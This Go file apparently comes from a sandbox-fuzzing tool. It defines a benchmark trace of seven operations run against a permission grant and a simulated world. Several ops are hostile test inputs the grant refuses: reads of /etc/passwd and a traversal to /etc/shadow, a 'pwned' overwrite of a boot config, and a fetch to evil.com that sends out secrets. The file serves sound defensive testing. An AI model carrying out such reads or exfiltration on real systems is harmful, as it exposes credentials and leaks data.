// Package seedtrace is the SPEC §10 worked trace as the benchmarks run it:
// its first seven ops, round-robin, under the trace's grant and world. It
// is the mix ../shared/bench/seed_miniature.py runs in Python, so that the
// reference (core's BenchmarkSeedTrace) and the oracle watching it
// (oracle's BenchmarkCheckedSeedTrace) are timed on the same work as the
// seed they are compared with.
package seedtrace

import (
	"github.com/sbxfuzz/sbxfuzz/core"
	"github.com/sbxfuzz/sbxfuzz/scenario"
)

// Ops returns the first seven ops of the worked trace: a read granted, a
// read and a traversal refused, a write granted and one refused, a fetch
// granted and one refused.
func Ops() []core.Op {
	return []core.Op{
		{Kind: core.OpRead, Args: []string{"/work/data.txt"}},
		{Kind: core.OpRead, Args: []string{"/etc/passwd"}},
		{Kind: core.OpRead, Args: []string{"/work/../etc/shadow"}},
		{Kind: core.OpWrite, Args: []string{"/work/out/report.txt", "done"}},
		{Kind: core.OpWrite, Args: []string{"/system/boot.cfg", "pwned"}},
		{Kind: core.OpFetch, Args: []string{"api.internal", "/status"}},
		{Kind: core.OpFetch, Args: []string{"evil.com", "/steal?d=secrets"}},
	}
}

// Grant returns the trace's grant, with budgets that no round-robin of
// its ops ever reaches: a benchmark times the ops, not a halted sandbox.
func Grant() core.GrantSpec {
	return core.GrantSpec{
		FSRead: []string{"/work/"}, FSWrite: []string{"/work/out/"},
		NetHosts: []string{"api.internal"}, Tools: []string{"summarize"},
		Budgets: core.Budgets{MaxOps: 1 << 62, MaxWall: 1 << 62, MaxOutputBytes: 1 << 62},
	}
}

// World returns the trace's world, with links added (none on the trace's
// paths, so the results are the same: a benchmark over it times the link
// walk of SPEC §13).
func World(links ...scenario.Link) scenario.WorldSpec {
	return scenario.WorldSpec{
		Files:  []scenario.File{{Path: "/work/data.txt", Data: "hello"}},
		Routes: []scenario.Route{{Host: "api.internal", Path: "/status", Body: "ok"}},
		Links:  links,
		Clock:  scenario.TickClock{Start: 0, Step: 1},
	}
}
